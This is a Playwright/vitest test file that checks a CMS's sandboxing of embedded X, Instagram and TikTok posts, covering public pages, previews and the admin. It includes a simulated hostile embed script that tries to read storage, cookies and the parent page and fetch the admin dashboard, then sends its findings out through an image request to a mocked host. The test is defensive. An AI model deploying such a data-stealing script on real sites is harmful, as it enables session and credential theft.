import type { BrowserContext, Page } from "playwright";
import { expect, test } from "vitest";
import { fillOne } from "#app/cli/starter/fill.server.ts";
import { makePreviewLink } from "#app/cms/admin/editing/preview/preview-link.server.ts";
import { kindNamed } from "#app/cms/content/registry.ts";
import { startAdminSite } from "#tests/support/admin-site.ts";
import { isAt, launch, openPage, visit } from "#tests/support/browser.ts";
import { DEMO_ADMIN } from "#tests/support/people.ts";

const posts = `
<blockquote class="twitter-tweet" data-lang="ja"><p>脱皮しました</p><a href="https://twitter.com/a/status/1">Xの出典</a></blockquote>
<script async src="https://platform.twitter.com/widgets.js" charset="utf-8"></script>
<script async src="https://platform.twitter.com/any/other.js"></script><script src="https://platform.x.com/x.js"></script>
<p>つぎ</p>
<blockquote class="instagram-media" data-instgrm-permalink="https://www.instagram.com/p/Cabc123/"><a href="https://www.instagram.com/p/Cabc123/">Instagramの出典</a></blockquote>
<script async src="https://www.instagram.com/embed.js"></script>
<p>つぎ</p>
<blockquote class="tiktok-embed" cite="https://www.tiktok.com/@a/video/12" data-video-id="12"><a href="https://www.tiktok.com/@a/video/12">TikTokの出典</a></blockquote>
<script async src="https://www.tiktok.com/embed.js"></script>
<p>つぎ</p>
<a class="twitter-timeline" href="https://twitter.com/keeper">keeperの投稿</a>
<p>おわり</p>`;
const sources = ["Xの出典", "Instagramの出典", "TikTokの出典", "keeperの投稿"];

const { site, cookie } = await startAdminSite();
for (const id of ["posts", "more-posts"]) {
  const fields = { tags: [], author: "" };
  const item = { kind: "blog", id, title: id, summary: "", body: posts, cover: null, fields } as const;
  await fillOne(site.db, { ...item, publishedAt: "2026-01-01T00:00:00.000Z" }, new Date());
}
const browser = await launch();

/** Height message of each network's frame, or the markup its script makes of a quotation. */
const said: Record<string, string> = {
  "platform.twitter.com": `{ "twttr.embed": { method: "twttr.private.resize", params: [{ height: 321 }] } }`,
  "www.instagram.com": `JSON.stringify({ type: "MEASURE", details: { height: 322 } })`,
  "www.tiktok.com": `JSON.stringify({ signalSource: name, height: 323 })`,
};
const widget = `
  const made = document.createElement("iframe");
  made.style.cssText = "display:block;border:0;height:324px";
  made.src = "https://platform.twitter.com/timeline";
  document.querySelector(".twitter-timeline").replaceWith(made);`;

async function friendly(context: BrowserContext): Promise<string[]> {
  const asked: string[] = [];
  await context.route(/^https:\/\//, (route) => {
    const url = new URL(route.request().url());
    asked.push(url.host + url.pathname);
    if (url.pathname.endsWith(".js")) return route.fulfill({ contentType: "text/javascript", body: widget });
    const body = `<!DOCTYPE html><p>${url.host}から</p><script>parent.postMessage(${said[url.host]}, "*")</script>`;
    return route.fulfill({ contentType: "text/html; charset=utf-8", body });
  });
  return asked;
}

const frameOf = (page: Page, src: string) => page.locator(`main iframe[src^="${src}"]`);
const networks = {
  X: "https://platform.twitter.com/embed/Tweet.html?id=1&",
  Instagram: "https://www.instagram.com/p/Cabc123/embed/",
  TikTok: "https://www.tiktok.com/embed/v2/12",
  timeline: "/embed/x",
};

async function seesAll(page: Page): Promise<void> {
  for (const [index, src] of Object.values(networks).entries()) {
    const frame = frameOf(page, src);
    await frame.scrollIntoViewIfNeeded();
    await expect.poll(() => frame.evaluate(({ offsetHeight }: HTMLElement) => offsetHeight)).toBe(321 + index);
    expect(await frame.evaluate((element) => getComputedStyle(element).opacity)).toBe("1");
    expect(await page.getByRole("link", { name: sources[index] }).isVisible()).toBe(false);
  }
}

test("posts show, also after client navigation; the page itself loads no script of a network", async () => {
  const { page, complaints } = await openPage(browser, { viewport: { width: 390, height: 844 } });
  const asked = await friendly(page.context());
  const requested: string[] = [];
  page.on("request", (request) => {
    if (request.frame() === page.mainFrame() && !request.url().startsWith(site.origin)) requested.push(request.url());
  });
  await visit(page, `${site.origin}/blog/posts`);
  await seesAll(page);
  await page.evaluate(() => {
    document.body.dataset.same = "yes";
  });
  await page.locator('main a[href="/blog"]').first().click();
  await isAt(page, "/blog");
  await page.locator("a[href='/blog/more-posts']").first().click();
  await isAt(page, "/blog/more-posts");
  await seesAll(page);
  expect(await page.evaluate(() => document.body.dataset.same)).toBe("yes");
  expect(requested).toEqual([]);
  expect([...new Set(asked.filter((address) => address.endsWith(".js")))]).toEqual(["platform.twitter.com/widgets.js"]);
  expect(complaints).toEqual([]);
  await page.emulateMedia({ media: "print" });
  for (const name of sources) expect(await page.getByRole("link", { name }).isVisible(), name).toBe(true);
  expect(await page.locator("main iframe").first().isVisible()).toBe(false);
});

test("without the network's script or JavaScript the quotations with their links remain", async () => {
  const { page, close } = await openPage(browser);
  await page.route(/^https:\/\//, (route) => route.abort());
  await visit(page, `${site.origin}/blog/posts`);
  for (const src of Object.values(networks)) await frameOf(page, src).scrollIntoViewIfNeeded();
  await page.waitForLoadState("networkidle");
  for (const name of sources) expect(await page.getByRole("link", { name }).isVisible(), name).toBe(true);
  await close();
  const plain = await openPage(browser, { javaScriptEnabled: false });
  const asked = await friendly(plain.page.context());
  await visit(plain.page, `${site.origin}/blog/posts`);
  for (const name of sources) expect(await plain.page.getByRole("link", { name }).isVisible(), name).toBe(true);
  expect(await plain.page.locator("main iframe").count()).toBe(0);
  expect(asked).toEqual([]);
});

/** Everything a hostile script could try, each attempt caught separately. It reports what it gets to its own host. */
function hostile(origin: string): void {
  const got: string[] = [];
  const attempts: Record<string, () => unknown> = {
    storage: () => JSON.stringify(localStorage),
    session: () => JSON.stringify(sessionStorage),
    "parent's storage": () => JSON.stringify(parent.localStorage),
    cookie: () => document.cookie,
    "parent's page": () => parent.document.documentElement.outerHTML,
    opener: () => opener.document.title,
    fetched: async () => (await fetch(`${origin}/admin/dashboard`, { credentials: "include" })).text(),
    "written into the parent": () => {
      parent.document.body.innerHTML = `${"SEC"}RET`;
    },
    "run in the parent": () => {
      parent.location = "javascript:window.tainted=true";
    },
    "top led away": () => {
      if (top) top.location = "https://platform.twitter.com/away";
    },
    windows: () => window.open(`${origin}/admin/dashboard`)?.document.title,
    messages: () => {
      for (const message of ["out", { height: 1e9 }, `{"height":"9;position:fixed"}`]) parent.postMessage(message, "*");
    },
  };
  Object.assign(window, { tainted: true });
  const all = Object.entries(attempts).map(async ([name, attempt]) => {
    try {
      got.push(`${name}: ${await attempt()}`);
    } catch (error) {
      got.push(`${name}: no, ${String(error).slice(0, 40)}`);
    }
  });
  void Promise.all(all).then(() => {
    const whole = encodeURIComponent(got.join("\n").slice(0, 6_000));
    new Image().src = `https://platform.twitter.com/report?where=${encodeURIComponent(location.href)}&got=${whole}`;
  });
}

interface Report {
  where: string;
  got: string;
}

/** Answers every URL of every network with the hostile script, or a page that runs it. */
async function hostileNetworks(context: BrowserContext): Promise<Report[]> {
  const reports: Report[] = [];
  const script = `(${hostile.toString()})(${JSON.stringify(site.origin)});`;
  await context.route(/^https:\/\//, (route) => {
    const url = new URL(route.request().url());
    if (url.pathname === "/report") {
      reports.push({ where: url.searchParams.get("where") ?? "", got: url.searchParams.get("got") ?? "" });
      return route.fulfill({ status: 204 });
    }
    if (url.pathname.endsWith(".js")) return route.fulfill({ contentType: "text/javascript", body: script });
    const page = `<!DOCTYPE html><body><script>${script}</script>`;
    return route.fulfill({ contentType: "text/html; charset=utf-8", body: page });
  });
  return reports;
}

/** Opens a browser with a signed-in admin and stored data of the site. */
async function signedIn(): Promise<BrowserContext> {
  const context = await browser.newContext({
    serviceWorkers: "block",
    viewport: { width: 1280, height: 2400 },
    userAgent: "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/150.0.0.0 Safari/537.36",
  });
  context.setDefaultTimeout(120_000);
  const [name = "", value = ""] = cookie.split(/=(.*)/);
  await context.addCookies([
    { name, value, url: site.origin, httpOnly: true, sameSite: "Lax" },
    { name: "SECRET-cookie", value: "1", url: site.origin },
  ]);
  await context.addInitScript((origin) => {
    if (location.origin !== origin) return;
    localStorage.setItem("SECRET-storage", "1");
    sessionStorage.setItem("SECRET-session", "1");
  }, site.origin);
  return context;
}

/** Four hostile scripts ran here, three at their networks and one in the frame without an origin, and got nothing. */
async function gotNothing(page: Page, reports: Report[], context = page.mainFrame()): Promise<void> {
  for (const src of Object.values(networks))
    await context.locator(`main iframe[src^="${src}"]`).scrollIntoViewIfNeeded();
  const places = () => [...new Set(reports.map(({ where }) => new URL(where).host + new URL(where).pathname))].sort();
  await expect
    .poll(places)
    .toEqual([
      `${new URL(site.origin).host}/embed/x`,
      "platform.twitter.com/embed/Tweet.html",
      "www.instagram.com/p/Cabc123/embed/",
      "www.tiktok.com/embed/v2/12",
    ]);
  for (const { where, got } of reports) {
    expect(got, where).not.toMatch(/SECRET/);
    expect(got, where).not.toContain(DEMO_ADMIN);
    // They did try: most attempts were refused by the browser.
    expect(got.match(/: no, /g)?.length, where).toBeGreaterThan(6);
  }
  const own = page.frames().filter((frame) => frame.url().startsWith(site.origin) && !frame.url().includes("/embed/"));
  for (const frame of own) expect(await frame.evaluate(() => "tainted" in window), frame.url()).toBe(false);
  expect(page.url()).toContain(site.origin);
  expect(await page.evaluate(() => document.body.textContent)).not.toContain("SECRET");
  reports.length = 0;
}

test("a hostile network gets no data of a signed-in admin, on pages, previews and in the admin", async () => {
  const context = await signedIn();
  const reports = await hostileNetworks(context);
  const page = await context.newPage();

  await visit(page, `${site.origin}/blog/posts`);
  await gotNothing(page, reports);
  await page.locator('main a[href="/blog"]').first().click();
  await isAt(page, "/blog");
  await page.locator("a[href='/blog/more-posts']").first().click();
  await isAt(page, "/blog/more-posts");
  await gotNothing(page, reports);

  const { token } = await makePreviewLink(site.db, kindNamed("blog"), "posts", new Date());
  for (const preview of ["/admin/blogs/posts/preview", `/preview/${token}`]) {
    await visit(page, site.origin + preview);
    await gotNothing(page, reports);
  }

  // The admin is always opened as a new document from a page with such posts.
  await visit(page, `${site.origin}/blog/posts`);
  await gotNothing(page, reports);
  await page.evaluate(() => {
    document.body.dataset.same = "yes";
    history.pushState(null, "", "/admin/blogs/posts/edit");
    dispatchEvent(new PopStateEvent("popstate"));
  });
  await page.waitForFunction(() => document.body.dataset.same === undefined);
  await isAt(page, "/admin/blogs/posts/edit");
  reports.length = 0;
  await page.waitForLoadState("networkidle");
  expect(reports).toEqual([]);
  await page.getByRole("button", { name: "横に表示" }).click();
  const beside = await page.waitForSelector("iframe:not([data-waiting])");
  const preview = await beside.contentFrame();
  if (!preview) throw new Error("The preview has no document");
  await preview.waitForSelector("main iframe");
  await gotNothing(page, reports, preview);
  expect(await page.getByText("ログアウトされました").count()).toBe(0);
  await context.close();
});
